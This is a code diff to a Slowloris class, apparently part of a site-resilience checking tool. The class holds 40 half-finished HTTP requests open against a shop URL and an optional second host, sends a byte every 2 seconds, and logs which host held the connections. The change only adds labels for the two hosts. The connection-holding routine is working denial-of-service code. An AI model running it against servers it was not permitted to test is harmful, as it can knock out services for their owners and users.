@@ -18,7 +18,9 @@ LINES: Final = 40
 HOLDS_S: Final = 15.0
 PIECE_S: Final = 2.0
 """Between two bytes: often enough for a server that waits for the next one only so long."""
-HELD: Final = f"a connection with half a request was held for {HOLDS_S:.0f} s; a proxy in front ends such"
+HELD: Final = f"{{}} held a connection with half a request for {HOLDS_S:.0f} s; a proxy in front ends such"
+SHOP: Final = "the shop"
+ROOM: Final = "the room"
 
 
 class Slowloris:
@@ -36,9 +38,9 @@ class Slowloris:
         means = self._means
         met = means.knock()
         door = met if isinstance(met, Door) else None
-        hosts = [means.shop_url] if door is None else [means.shop_url, door.base]
-        lines = [self._dial(hosts[place % len(hosts)]) for place in range(LINES)]
-        self._hold([line for line in lines if line is not None], door)
+        hosts = [(SHOP, means.shop_url)] if door is None else [(SHOP, means.shop_url), (ROOM, door.base)]
+        lines = [(who, self._dial(url)) for who, url in (hosts[place % len(hosts)] for place in range(LINES))]
+        self._hold([(who, line) for who, line in lines if line is not None], door)
         return means.end()
 
     def _dial(self, url: str) -> Line | None:
@@ -49,19 +51,19 @@ class Slowloris:
             line.send(f"GET / HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nX-Slow: ".encode())
         return line
 
-    def _hold(self, lines: list[Line], door: Door | None) -> None:
+    def _hold(self, lines: list[tuple[str, Line]], door: Door | None) -> None:
         means = self._means
         end_s = means.now_s() + HOLDS_S
         half_s = means.now_s() + HOLDS_S / 2
         asked = False
         while lines and means.now_s() < end_s:
             means.rest(PIECE_S)
-            lines = [line for line in lines if line.send(b"a")]
+            lines = [(who, line) for who, line in lines if line.send(b"a")]
             if not asked and means.now_s() >= half_s:
                 asked = True
                 self._ask_as_others_do(door)
-        for line in lines:
-            means.note(HELD)
+        for who, line in lines:
+            means.note(HELD.format(who))
             line.close()
 
     def _ask_as_others_do(self, door: Door | None) -> None:
